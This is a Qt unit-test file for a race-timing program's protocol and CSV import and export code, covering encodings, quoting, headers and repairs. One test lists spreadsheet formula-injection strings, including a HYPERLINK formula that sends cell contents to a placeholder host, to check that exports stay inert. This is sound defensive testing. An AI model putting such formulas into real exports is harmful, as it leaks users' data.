// SPDX-FileCopyrightText: 2024-2026 Rennzeit developers
// SPDX-License-Identifier: GPL-3.0-or-later

#include "gridstore/CellStore.h"
#include "gridstore/CellTable.h"
#include "gridstore/GridCommaText.h"
#include "gridstore/GridCsvText.h"
#include "protocol/ProtocolFiles.h"
#include "protocol/ResultsCsv.h"
#include "support/TestSupport.h"

#include <QTemporaryDir>
#include <QtTest>

#include <cerrno>

using protocol::LoadedProtocol;

namespace {

QStringList row7(std::initializer_list<QString> cells)
{
    QStringList row(cells);
    while (row.size() < protocol::kProtocolColCount)
        row << QString();
    return row;
}

void setHeader(TCellStore& cells)
{
    for (int c = 0; c < protocol::kProtocolColCount; ++c)
        cells.SetCell(c, 0, protocol::kProtocolHeaders[static_cast<size_t>(c)]);
}

// Two timed entries, a row without a number, an entry with nothing but its
// number, and the free row a start leaves at the end.
TCellStore raceTable()
{
    TCellStore cells(7, 6);
    setHeader(cells);
    cells.SetRow(1, { "3", "Berg", "10:05.03,12", "1.05,12", "0,00", "1", "65120" });
    cells.SetRow(2, { "7", QStringLiteral("Müller, Anna"), "10:05.20,40", "", "0.17,28", "-", "1234567" });
    cells.SetRow(3, { "", "Ohne Nummer", "10:06.00,00", "", "1.00,00", "-", "99" });
    cells.SetRow(4, { "12" });
    cells.SetRow(5, { "", "", "", "", "", "-", "" });
    return cells;
}

QList<QStringList> rowsOf(std::initializer_list<QStringList> rows)
{
    return QList<QStringList>(rows);
}

QList<QStringList> rowsOf(const LoadedProtocol& loaded)
{
    return QList<QStringList>(loaded.rows.begin(), loaded.rows.end());
}

} // namespace

class TestProtocolFiles : public QObject {
    Q_OBJECT
private slots:
    void writer_writesNumberedRowsWithBlanksAndTabs()
    {
        QTemporaryDir dir;
        const QString file = dir.filePath("race.txt");
        QVERIFY(protocol::WriteProtocolText(raceTable(), file));
        QCOMPARE(ReadFileBytes(file), ReadFileBytes(TestDataPath("race.protocol.txt")));
    }

    void writer_truncatesAnOlderLongerFile()
    {
        QTemporaryDir dir;
        const QString file = dir.filePath("race.txt");
        QVERIFY(WriteFileBytes(file, QByteArray(4000, 'x')));
        QVERIFY(protocol::WriteProtocolText(raceTable(), file));
        QCOMPARE(ReadFileBytes(file), ReadFileBytes(TestDataPath("race.protocol.txt")));
    }

    void writer_givesTheReasonWhenTheFileCannotBeCreated()
    {
        QTemporaryDir dir;
        QString reason;
        QVERIFY(!protocol::WriteProtocolText(raceTable(), dir.filePath("missing/race.txt"), &reason));
        QCOMPARE(reason, QStringLiteral("Datei oder Ordner nicht gefunden"));
    }

    void savedFile_loadsBackEveryNumberedRow()
    {
        QTemporaryDir dir;
        const QString file = dir.filePath("race.txt");
        const TCellStore original = raceTable();
        QVERIFY(protocol::WriteProtocolText(original, file));

        const std::optional<LoadedProtocol> loaded = protocol::LoadProtocolText(file);
        QVERIFY(loaded && loaded->ok());
        // The blank written for the empty name comes back empty; the row
        // without a number and the trailing free row are gone.
        QCOMPARE(rowsOf(*loaded), rowsOf({ original.Row(1), original.Row(2), original.Row(4) }));
    }

    void classesAndStatuses_roundTripThroughTheTextFile()
    {
        TCellStore cells = raceTable();
        cells.SetColCount(protocol::kTableColCount);
        for (int c = 0; c < protocol::kTableColCount; ++c)
            cells.SetCell(c, 0, protocol::kTableHeaders[static_cast<size_t>(c)]);
        // Unchanged as long as no entry has a class or status; "Gesamt" is
        // never written.
        cells.SetCell(protocol::kColGesamt, 1, QStringLiteral("1"));
        QCOMPARE(protocol::ProtocolTextBytes(cells), ReadFileBytes(TestDataPath("race.protocol.txt")));

        cells.SetCell(protocol::kColKlasse, 1, QStringLiteral("Damen Ü40"));
        cells.SetCell(protocol::kColStatus, 2, QStringLiteral("DSQ"));
        const QByteArray bytes = protocol::ProtocolTextBytes(cells);
        QVERIFY(bytes.startsWith("Nr.\tName\tStart\tZeit\tSplit\tPlatz\t*\tKlasse\tStatus\t\r\n"));
        const LoadedProtocol loaded = protocol::ParseProtocolText(bytes);
        QVERIFY(loaded.ok());
        QList<QStringList> expected;
        for (const int r : { 1, 2, 4 })
            expected << cells.Row(r).mid(0, protocol::kClassColCount);
        QCOMPARE(rowsOf(loaded), expected);
        // An older reader takes the first seven fields: its columns are where
        // they always were.
        const QList<QByteArray> line = bytes.split('\n').at(1).split('\t');
        QCOMPARE(line.mid(0, 7).join('\t'), QByteArray("3\tBerg\t10:05.03,12\t1.05,12\t0,00\t1\t65120"));
    }

    void missingFile_givesNothingToApply()
    {
        QString why;
        QVERIFY(!protocol::LoadProtocolText(QStringLiteral("/nonexistent/start.txt"), &why));
        QVERIFY(!why.isEmpty());
    }

    void parse_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<QList<QStringList>>("rows");

        QTest::newRow("start list with ;") << QByteArray("12;Name\r\n") << rowsOf({ row7({ "12", "Name" }) });
        QTest::newRow("run of ; counts as one") << QByteArray("12;;Name\r\n") << rowsOf({ row7({ "12", "Name" }) });
        QTest::newRow("start list with TAB, LF only")
            << QByteArray("12\tName\n13\tOther\n") << rowsOf({ row7({ "12", "Name" }), row7({ "13", "Other" }) });
        QTest::newRow("TAB wins over ;") << QByteArray("12\tBerg; Anna\r\n")
                                         << rowsOf({ row7({ "12", "Berg; Anna" }) });
        // A header starts with "Nr."; "Nr." further on is part of a name.
        QTest::newRow("header lines are skipped, Nr. inside a name is kept")
            << QByteArray("Nr.;Name\r\n5;Nr.5 Meier\r\n6;Staffel Nr. 3\r\nNr.;Teilnehmerin;Verein\r\n7;Huber\r\n")
            << rowsOf({ row7({ "5", "Nr.5 Meier" }), row7({ "6", "Staffel Nr. 3" }), row7({ "7", "Huber" }) });
        // Below a header every field keeps its column, empty ones too.
        QTest::newRow("CSV export with its header keeps empty cells in place")
            << QByteArray("Nr.;Name;Start;Zeit;Split;Platz;*\r\n3;Berg;;;;-;\r\n;;;;;-;\r\n")
            << rowsOf({ row7({ "3", "Berg", "", "", "", "-" }), row7({ "", "", "", "", "", "-" }) });
        QTest::newRow("header names in any order, unknown columns left out")
            << QByteArray("Verein;Klasse;Name;Start-Nr.;Jahrgang\r\nSV Nord;U12;Anna;7;2014\r\n;U14;Bert;;\r\n")
            << rowsOf({ row7({ "7", "Anna", "", "", "", "", "", "U12" }),
                   row7({ "", "Bert", "", "", "", "", "", "U14" }) });
        QTest::newRow("header case, blanks and trailing dots ignored")
            << QByteArray("NR\t kategorie. \tname:\r\n1\tHerren\tBert\r\n")
            << rowsOf({ row7({ "1", "Bert", "", "", "", "", "", "Herren" }) });
        QTest::newRow("the program's own file with class and status")
            << QByteArray("Nr.\tName\tStart\tZeit\tSplit\tPlatz\t*\tKlasse\tStatus\t\r\n"
                          "3\tBerg\t \t \t \tDNF\t \tDamen\tDNF\t\r\n")
            << rowsOf({ row7({ "3", "Berg", "", "", "", "DNF", "", "Damen", "DNF" }) });
        QTest::newRow("without a recognised header by position, as always")
            << QByteArray("Name;Verein\r\n1;Anna;Damen\r\n")
            << rowsOf({ row7({ "Name", "Verein" }), row7({ "1", "Anna", "Damen" }) });
        QTest::newRow("leading separators give one empty first field")
            << QByteArray("\t\tName\t\t\r\n") << rowsOf({ row7({ "", "Name" }) });
        QTest::newRow("empty line gives an empty row")
            << QByteArray("1;A\r\n\r\n2;B\r\n") << rowsOf({ row7({ "1", "A" }), row7({}), row7({ "2", "B" }) });
        QTest::newRow("more than seven fields keep the first seven")
            << QByteArray("1;2;3;4;5;6;7;8;9\r\n") << rowsOf({ row7({ "1", "2", "3", "4", "5", "6", "7" }) });
        QTest::newRow("cells are trimmed of blanks and control characters")
            << QByteArray("  12 ; Name \x01\x02\r\n") << rowsOf({ row7({ "12", "Name" }) });
        QTest::newRow("Windows-1252 start list")
            << QByteArray("12;M\xFC"
                          "ller\r\n13;J\xF6rg Wei\xDF\r\n")
            << rowsOf({ row7({ "12", QStringLiteral("Müller") }), row7({ "13", QStringLiteral("Jörg Weiß") }) });
        QTest::newRow("UTF-8 start list with byte-order mark")
            << QByteArray("\xEF\xBB\xBF"
                          "12;M\xC3\xBCller\r\n13;\xE2\x82\xAC\r\n")
            << rowsOf({ row7({ "12", QStringLiteral("Müller") }), row7({ "13", QStringLiteral("€") }) });
        QTest::newRow("byte 26 ends the input")
            << QByteArray("1;A\r\n2;B\x1A\r\n3;C\r\n") << rowsOf({ row7({ "1", "A" }), row7({ "2", "B" }) });
        QTest::newRow("lone CR is dropped")
            << QByteArray("1;A\rB\r\n2;C\r") << rowsOf({ row7({ "1", "AB" }), row7({ "2", "C" }) });
        QTest::newRow("a lone CR after the last line end is still a line")
            << QByteArray("1;A\n\r") << rowsOf({ row7({ "1", "A" }), row7({}) });
        QTest::newRow("last line without line end")
            << QByteArray("1;A\r\n2;B") << rowsOf({ row7({ "1", "A" }), row7({ "2", "B" }) });
        QTest::newRow("empty file") << QByteArray() << rowsOf({});
        QTest::newRow("quoted fields keep ; and quotes, untrimmed")
            << QByteArray("1;\"Berg; \"\"Anna\"\"\";\" x \"\r\n3;C\r\n")
            << rowsOf({ row7({ "1", "Berg; \"Anna\"", " x " }), row7({ "3", "C" }) });
        QTest::newRow("the writer's apostrophe goes, a cell's own stays")
            << QByteArray("1;\"'=1+1\";\"''=x;y\";'=z;\"'a;b\";\"'-5\"\r\n")
            << rowsOf({ row7({ "1", "=1+1", "'=x;y", "'=z", "'a;b", "'-5" }) });
        QTest::newRow("spreadsheet quoting of a start list")
            << QByteArray("\"12\";\"Huber\"\r\n") << rowsOf({ row7({ "12", "Huber" }) });
        QTest::newRow("quote inside a TAB line is text")
            << QByteArray("1\t\"Flash\" Gordon\t\r\n") << rowsOf({ row7({ "1", "\"Flash\" Gordon" }) });
        QTest::newRow("unclosed quote reads as before")
            << QByteArray("1;\"Flash\r\n2;B\r\n") << rowsOf({ row7({ "1", "\"Flash" }), row7({ "2", "B" }) });
        QTest::newRow("text after a closing quote reads as before")
            << QByteArray("1;\"Flash\" Gordon;x\r\n") << rowsOf({ row7({ "1", "\"Flash\" Gordon", "x" }) });
    }

    // What a start list from a registration form may hold comes back from
    // the semicolon export as it was, and no spreadsheet reads a formula.
    void csvExport_readsBackToTheSameTable()
    {
        const QStringList names { "=1+1", "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klick\")", "+49 170", "-Berg",
            "@SUM(A1)", "Berg; Anna", "Max \"Blitz\" Meier", "2024", "-7", "'=x;y", QStringLiteral("Jörg Müller") };
        TCellStore cells(7, static_cast<int>(names.size()) + 1);
        setHeader(cells);
        for (int i = 0; i < names.size(); ++i)
            cells.SetRow(i + 1,
                { QString::number(i + 1), names[i], "10:05.03,12", "1.05,12", "0,00", QString::number(i + 1),
                    "65120" });
        const LoadedProtocol loaded = protocol::ParseProtocolText(GridCsvBytes(cells));
        QVERIFY(loaded.ok());
        QCOMPARE(int(loaded.rows.size()), int(names.size()));
        for (int i = 0; i < names.size(); ++i)
            QCOMPARE(loaded.rows[size_t(i)], cells.Row(i + 1));
    }

    // With classes the export lists the entries as every output does, class
    // by class in the race's class order, "Gesamt" after "Platz", and no
    // free row; names that spreadsheets would split, trim or compute come
    // back as they were.
    void resultsCsv_groupsByClass_andReadsBackToTheSameTable()
    {
        TCellStore cells(protocol::kTableColCount, 7);
        for (int c = 0; c < protocol::kTableColCount; ++c)
            cells.SetCell(c, 0, protocol::kTableHeaders[static_cast<size_t>(c)]);
        cells.SetRow(1, { "1", "Anna", "10:00.00,00", "1.00,00", "0,00", "2", "60000", "Damen", "", "3" });
        cells.SetRow(2, { "2", " =3+3", "10:00.10,00", "0.50,00", "0,10", "1", "50000", "Herren", "", "1" });
        cells.SetRow(3, { "3", "2,79", "10:00.20,00", "0.55,00", "0,20", "1", "55000", "Damen", "", "2" });
        cells.SetRow(4, { "4", "Berg; \"Blitz\"\t", "10:00.30,00", "", "0,30", "", "600", "Herren", "DNF", "" });
        cells.SetRow(5, { "5", QStringLiteral("Jörg "), "", "", "", "", "", "Damen", "", "" });
        cells.SetRow(6, { "", "", "", "", "", "-", "", "", "", "" });
        const QByteArray csv = protocol::ResultsCsvBytes(cells, { "Herren", "Damen" });
        // The file the save writes is these bytes; kept where
        // RENNZEIT_SCREENSHOT_DIR names a folder, to open it in a spreadsheet.
        QTemporaryDir dir;
        const QByteArray keep = qgetenv("RENNZEIT_SCREENSHOT_DIR");
        const QString file = (keep.isEmpty() ? dir.path() : QString::fromLocal8Bit(keep)) + "/results-classes.csv";
        QVERIFY(protocol::WriteResultsCsv(cells, { "Herren", "Damen" }, file));
        QCOMPARE(ReadFileBytes(file), csv);
        const QList<QByteArray> lines = csv.split('\n');
        QCOMPARE(lines.size(), 7); // header, five entries, nothing after the last CR LF
        QCOMPARE(lines[0], QByteArray("Nr.;Name;Start;Zeit;Split;Platz;Gesamt;*;Klasse;Status\r"));
        QCOMPARE(lines[1], QByteArray("2;\" =3+3\";\"10:00.10,00\";\"0.50,00\";\"0,10\";1;1;50000;Herren;\r"));
        QVERIFY(lines[6].isEmpty());
        QStringList order;
        for (qsizetype i = 1; i < 6; ++i)
            order << QString::fromUtf8(lines[i].left(lines[i].indexOf(';')));
        QCOMPARE(order, (QStringList { "2", "4", "3", "1", "5" }));

        const LoadedProtocol loaded = protocol::ParseProtocolText(csv);
        QVERIFY(loaded.ok());
        QVERIFY(loaded.repairs.empty());
        QCOMPARE(loaded.rows.size(), size_t(5));
        for (const QStringList& row : loaded.rows) {
            QStringList expected = cells.Row(row[0].toInt()).mid(0, protocol::kClassColCount);
            if (row[0] == QLatin1String("4")) // its TAB became a blank at the end, trimmed as on loading
                expected[protocol::kColName] = QStringLiteral("Berg; \"Blitz\"");
            QCOMPARE(row, expected);
        }

        // Without classes and statuses: the seven columns, the table's order.
        TCellStore plain = raceTable();
        const QByteArray plainCsv = protocol::ResultsCsvBytes(plain, {});
        QCOMPARE(plainCsv, GridCsvBytes(plain).replace(";;;;;-;\r\n", ""));
        QCOMPARE(plainCsv.count('\n'), 5);
    }

    void parse()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(QList<QStringList>, rows);
        const LoadedProtocol loaded = protocol::ParseProtocolText(bytes);
        QCOMPARE(rowsOf(loaded), rows);
        QVERIFY(loaded.ok());
        QVERIFY(loaded.repairs.empty());
    }

    // Alt+Enter and TAB inside a spreadsheet's quoted cell: the cell loads
    // in one piece with blanks in their place, noted; a protocol whose
    // winner's name holds "Nr." keeps the winner. Whatever the table holds,
    // the text file, the semicolon export and the backup never split a cell
    // into columns or rows: each reads back as the same table.
    void breaksInCells_becomeBlanks_andEveryWriterReadsBackWhole()
    {
        const QByteArray sheet = "Nr.;Name;Klasse\r\n"
                                 "1;\"Anna\r\nline2\";\"Damen\tU40\"\r\n"
                                 "2;\"Staffel Nr. 2\";\"\r\n\"\r\n"
                                 "3;Bert;H\r\n";
        const LoadedProtocol loaded = protocol::ParseProtocolText(sheet);
        QVERIFY(loaded.ok());
        QCOMPARE(rowsOf(loaded),
            rowsOf({ row7({ "1", "Anna line2", "", "", "", "", "", "Damen U40" }),
                row7({ "2", "Staffel Nr. 2", "", "", "", "", "", "" }),
                row7({ "3", "Bert", "", "", "", "", "", "H" }) }));
        QCOMPARE(loaded.repairs.size(), size_t(2));
        QCOMPARE(loaded.repairs[0].line, 2);
        QVERIFY(loaded.repairs[0].what.contains("Zeilenumbruch in \"Name\""));
        QVERIFY(loaded.repairs[0].what.contains("Zeilenumbruch in \"Klasse\""));
        QCOMPARE(loaded.repairs[1].line, 4);
        QCOMPARE(protocol::LoadNote(loaded), QStringLiteral("2 Zeilen beim Laden geändert: 2, 4"));

        // A table whose cells got TABs and line breaks another way.
        TCellStore cells(protocol::kClassColCount, 4);
        for (int c = 0; c < protocol::kClassColCount; ++c)
            cells.SetCell(c, 0, protocol::kTableHeaders[static_cast<size_t>(c)]);
        cells.SetRow(1, { "1", "Staffel Nr. 2", "10:00.00,00", "1.00,00", "0,00", "1", "60000", "Damen" });
        cells.SetRow(2, { "2", "Anna\nline2", "10:00.01,00", "1.10,00", "0,01", "2", "70000", "H\t40" });
        cells.SetRow(3, { "3", "\r\nBert\t\t", "10:00.02,00", "", "0,02", "-", "1000" });
        const QList<QStringList> expected { cells.Row(1).mid(0, 8),
            { "2", "Anna line2", "10:00.01,00", "1.10,00", "0,01", "2", "70000", "H 40" },
            { "3", "Bert", "10:00.02,00", "", "0,02", "-", "1000", "" } };
        const auto readBack = [](const QByteArray& bytes) {
            QList<QStringList> rows;
            for (QStringList row : protocol::ParseProtocolText(bytes).rows)
                rows << row.mid(0, 8);
            return rows;
        };
        const QByteArray text = protocol::ProtocolTextBytes(cells);
        QCOMPARE(text.count('\n'), 4);
        QCOMPARE(readBack(text), expected);
        const QByteArray csv = GridCsvBytes(cells, protocol::kClassColCount);
        QCOMPARE(csv.count('\n'), 4);
        QCOMPARE(readBack(csv), expected);
    }

    // Entries that share a start number load all the same; the note names
    // the numbers ("007" is 7) and its details the lines.
    void repeatedNumbers_loadAndAreNamedInTheNote()
    {
        const LoadedProtocol loaded = protocol::ParseProtocolText(
            "Nr.;Name\r\n7;Anna\r\n12a;Bert\r\n007;Cleo\r\n;Dora\r\n12a;Egon\r\n;Fritz\r\n"
            "8;Gina\r\n");
        QCOMPARE(loaded.rows.size(), size_t(7));
        QCOMPARE(loaded.repeated.size(), size_t(2));
        QCOMPARE(loaded.repeated[0].number, QStringLiteral("7"));
        QCOMPARE(loaded.repeated[0].lines, (std::vector<int> { 2, 4 }));
        QCOMPARE(loaded.repeated[1].number, QStringLiteral("12a"));
        QCOMPARE(loaded.repeated[1].lines, (std::vector<int> { 3, 6 }));
        QCOMPARE(protocol::LoadNote(loaded), QStringLiteral("Nummern mehrfach: 7, 12a"));
        QCOMPARE(protocol::LoadNoteDetails(loaded),
            QStringLiteral("Nr. 7 mehrfach in den Zeilen 2, 4\nNr. 12a mehrfach in den Zeilen 3, 6"));
        QCOMPARE(protocol::LoadNote(protocol::ParseProtocolText("1;A\r\n2;B\r\n")), QString());
    }

    void rawValues_takeTheWholeSignedRange()
    {
        const LoadedProtocol loaded = protocol::ParseProtocolText("1;A;x;y;0,00;-;-2147483648\r\n"
                                                                  "2;B;x;y;0,50;-;+2147483647\r\n"
                                                                  "3;C\r\n");
        QVERIFY(loaded.ok());
        QCOMPARE(loaded.rows.size(), size_t(3));
        QCOMPARE(loaded.rows[0][6], QStringLiteral("-2147483648"));
    }

    // A start list exported from a spreadsheet: a header line, more columns
    // than the log has (club, year of birth, licence), a stray control
    // character pasted into a cell. Every line loads; what had to change is
    // noted line by line.
    void spreadsheetStartList_loadsEveryLine_andNotesWhatChanged()
    {
        // Under a header line the columns go by their names: the club, the
        // year and the licence are none of the program's and stay out; a
        // stray control character becomes a blank.
        const QByteArray named = "Nr.;Name;Verein;Jahrgang;Klasse;Bezahlt;Lizenz;Bemerkung\r\n"
                                 "1;Anna Berg;SC Ulm;1990;D;ja;A-123;\r\n"
                                 "2;Jörg\x07 Weiß;TSV Au;1985;He\x1B"
                                 "ren;ja;L-4711;Startgeld offen\r\n";
        const LoadedProtocol byName = protocol::ParseProtocolText(named);
        QVERIFY(byName.ok());
        QCOMPARE(rowsOf(byName),
            rowsOf({ { "1", "Anna Berg", "", "", "", "", "", "D" },
                { "2", QStringLiteral("Jörg  Weiß"), "", "", "", "", "", "He ren" } }));
        QCOMPARE(byName.repairs.size(), size_t(1));
        QCOMPARE(byName.repairs[0].line, 3);
        QVERIFY(byName.repairs[0].what.contains("Steuerzeichen in \"Name\""));
        QVERIFY(byName.repairs[0].what.contains("Steuerzeichen in \"Klasse\""));

        // Without a header the fields go by position: an eighth field and
        // more are left out, a seventh that is no whole number stays out of
        // the raw column (the entry loads as not started).
        const QByteArray list = "1;Anna Berg;SC Ulm;1990;D;ja;A-123;\r\n"
                                "2;Jörg\x07 Weiß;TSV Au;1985;H;ja;L-4711;Startgeld offen\r\n"
                                "3;\"Carl\x1B Meier\";;1970;H;nein;-\r\n"
                                "4;Dora\xC2\x85"
                                "Frei\r\n"
                                "5\tEva Lang\t \t \t0,00\t-\t12,5\t\r\n";
        const LoadedProtocol loaded = protocol::ParseProtocolText(list);
        QVERIFY(loaded.ok());
        QCOMPARE(rowsOf(loaded),
            rowsOf({ row7({ "1", "Anna Berg", "SC Ulm", "1990", "D", "ja", "" }),
                row7({ "2", QStringLiteral("Jörg  Weiß"), "TSV Au", "1985", "H", "ja", "" }),
                row7({ "3", "Carl  Meier", "1970", "H", "nein", "-" }), row7({ "4", "Dora Frei" }),
                row7({ "5", "Eva Lang", "", "", "0,00", "-", "" }) }));
        QCOMPARE(loaded.repairs.size(), size_t(5));
        const QList<int> lines { 1, 2, 3, 4, 5 };
        for (int i = 0; i < lines.size(); ++i)
            QCOMPARE(loaded.repairs[size_t(i)].line, lines[i]);
        QVERIFY(loaded.repairs[0].what.contains("\"A-123\" in Spalte \"*\""));
        // Two repairs of one line are one note of that line.
        QVERIFY(loaded.repairs[1].what.contains("Steuerzeichen in \"Name\""));
        QVERIFY(loaded.repairs[1].what.contains("\"L-4711\" in Spalte \"*\""));
        QVERIFY(loaded.repairs[2].what.contains("Steuerzeichen in \"Name\""));
        QVERIFY(loaded.repairs[4].what.contains("12,5"));
        QCOMPARE(protocol::RepairNote(loaded.repairs), QStringLiteral("5 Zeilen beim Laden geändert: 1, 2, 3, 4, 5"));
        const QStringList details = protocol::RepairDetails(loaded.repairs).split('\n');
        QCOMPARE(details.size(), 5);
        QVERIFY(details[3].startsWith("Zeile 4: Steuerzeichen"));
    }

    void repairNote_countsTheLines_andNamesTheFirstFive()
    {
        QCOMPARE(protocol::RepairNote({}), QString());
        QCOMPARE(protocol::RepairNote({ { 7, "x" } }), QStringLiteral("1 Zeile beim Laden geändert: 7"));
        std::vector<protocol::LoadRepair> many;
        for (int line = 1; line <= 7; ++line)
            many.push_back({ line * 2, "x" });
        QCOMPARE(protocol::RepairNote(many), QStringLiteral("7 Zeilen beim Laden geändert: 2, 4, 6, 8, 10, …"));
    }

    // A raw value "*" that is no whole 32-bit number stays out of the table:
    // the entry loads as not started, its other cells as they were.
    void unreadableRawValue_staysOut_theLineLoads_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<int>("line");
        const QByteArray good = "Nr.\tName\tStart\tZeit\tSplit\tPlatz\t*\t\r\n1\tA\t10:00.00,00\t \t0,00\t-\t500\t\r\n";
        QTest::newRow("raw text") << good + "2\tB\t \t \t \t-\tabc\t\r\n" << 3;
        QTest::newRow("raw too large") << good + "2\tB\t \t \t \t-\t2147483648\t\r\n" << 3;
        QTest::newRow("raw fraction") << good + "\r\n2;B;x;y;z;-;12,5\r\n" << 4;
        QTest::newRow("raw sign only") << "2;B;x;y;z;-;-\r\n" + good << 1;
    }

    void unreadableRawValue_staysOut_theLineLoads()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(int, line);
        const LoadedProtocol loaded = protocol::ParseProtocolText(bytes);
        QVERIFY(loaded.ok());
        QCOMPARE(loaded.repairs.size(), size_t(1));
        QCOMPARE(loaded.repairs[0].line, line);
        for (const QStringList& row : loaded.rows) {
            if (row[0] == "1")
                QCOMPARE(row[6], QStringLiteral("500"));
            if (row[0] == "2") {
                QCOMPARE(row[1], QStringLiteral("B"));
                QCOMPARE(row[6], QString());
            }
        }
    }

    void binaryFile_namesItsLineAndGivesNoRows_data()
    {
        QTest::addColumn<QByteArray>("bytes");
        QTest::addColumn<int>("line");
        const QByteArray good = "Nr.\tName\tStart\tZeit\tSplit\tPlatz\t*\t\r\n1\tA\t10:00.00,00\t \t0,00\t-\t500\t\r\n";
        QTest::newRow("NUL, even after the end mark") << good + QByteArray("\x1A\x00\x01", 3) << 3;
        QTest::newRow("picture") << QByteArray("\x89PNG\r\n\x1A\n\x00\x00\x00\rIHDR", 16) << 3;
    }

    void binaryFile_namesItsLineAndGivesNoRows()
    {
        QFETCH(QByteArray, bytes);
        QFETCH(int, line);
        const LoadedProtocol loaded = protocol::ParseProtocolText(bytes);
        QVERIFY(!loaded.ok());
        QCOMPARE(loaded.errorLine, line);
        QVERIFY(!loaded.error.isEmpty());
        QVERIFY(loaded.rows.empty());
    }

    void apply_replacesEntryRowsAndKeepsTheHeader()
    {
        TCellStore cells = raceTable();
        TStoreTable table(cells);
        LoadedProtocol loaded = protocol::ParseProtocolText("12;Name\r\n13;Other\r\n");
        protocol::ApplyLoadedProtocol(table, loaded);
        QCOMPARE(cells.RowCount(), 3);
        QCOMPARE(cells.Row(0), raceTable().Row(0));
        QCOMPARE(cells.Row(1), row7({ "12", "Name" }));
        QCOMPARE(cells.Row(2), row7({ "13", "Other" }));

        // Growing the table again must not bring back the old rows' texts.
        loaded = protocol::ParseProtocolText("1;A\r\n2;B\r\n3;C\r\n4;D\r\n5;E\r\n");
        protocol::ApplyLoadedProtocol(table, protocol::ParseProtocolText("1;A\r\n"));
        protocol::ApplyLoadedProtocol(table, loaded);
        QCOMPARE(cells.RowCount(), 6);
        QCOMPARE(cells.Row(5), row7({ "5", "E" }));
    }

    void apply_ofAnEmptyFileLeavesOneClearedRow()
    {
        TCellStore cells = raceTable();
        TStoreTable table(cells);
        protocol::ApplyLoadedProtocol(table, protocol::ParseProtocolText(""));
        QCOMPARE(cells.RowCount(), 2);
        QVERIFY(cells.IsEmptyRow(1));
        QCOMPARE(cells.Cell(0, 0), QStringLiteral("Nr."));
    }

    void loader_readsTheBackupFileAsTheTableItWas()
    {
        const QByteArray backup = "GenerelSettings,0\r\n"
                                  "FontColSettings\r\n"
                                  "FontRowSettings\r\n"
                                  "UserSettings\r\n"
                                  "UserSettings,-1,-1,-1,-1,-1,-1,-1,-1,-1,-1,-1\r\n"
                                  "Nr.,Name,Start,Zeit,Split,Platz,*\r\n"
                                  "7,\"Berg, Anna\",\"10:05.03,12\",\"9,87\",\"0,00\",1,9870\r\n"
                                  "8,\"Jörg \"\"Jo\"\"\",\"10:05.04,12\",,\"1,00\",-,-5000\r\n"
                                  ",,,,,-,\r\n";
        QVERIFY(protocol::IsGridBackup(backup));
        QVERIFY(!protocol::IsGridBackup("Nr.\tName\t\r\n12;Anna\r\n"));
        const LoadedProtocol loaded = protocol::ParseProtocolText(backup);
        QVERIFY(loaded.ok());
        QCOMPARE(loaded.rows.size(), size_t(2)); // the free row after the last start is left out
        QCOMPARE(loaded.rows[0], row7({ "7", "Berg, Anna", "10:05.03,12", "9,87", "0,00", "1", "9870" }));
        QCOMPARE(loaded.rows[1], row7({ "8", "Jörg \"Jo\"", "10:05.04,12", "", "1,00", "-", "-5000" }));

        // An unreadable raw value of the backup stays out, as in a protocol
        // text file; its line is noted.
        const LoadedProtocol damaged = protocol::ParseProtocolText(backup + "9,Carl,,,,-,12x\r\n");
        QVERIFY(damaged.ok());
        QCOMPARE(damaged.rows.size(), size_t(4));
        QCOMPARE(damaged.rows[3], row7({ "9", "Carl", "", "", "", "-", "" }));
        QCOMPARE(damaged.repairs.size(), size_t(1));
        QCOMPARE(damaged.repairs[0].line, 10);
    }

    void entryContent_isAnythingButTheFreeRowsDash()
    {
        TCellStore cells = raceTable();
        QVERIFY(protocol::HasEntryContent(cells));
        TCellStore empty(7, 3);
        empty.SetRow(0, { "Nr.", "Name", "Start", "Zeit", "Split", "Platz", "*" });
        empty.SetCell(5, 2, QStringLiteral("-"));
        empty.SetCell(1, 1, QStringLiteral("  "));
        QVERIFY(!protocol::HasEntryContent(empty));
        empty.SetCell(1, 1, QStringLiteral("Anna"));
        QVERIFY(protocol::HasEntryContent(empty));
    }
};

QTEST_GUILESS_MAIN(TestProtocolFiles)
#include "tst_protocolfiles.moc"
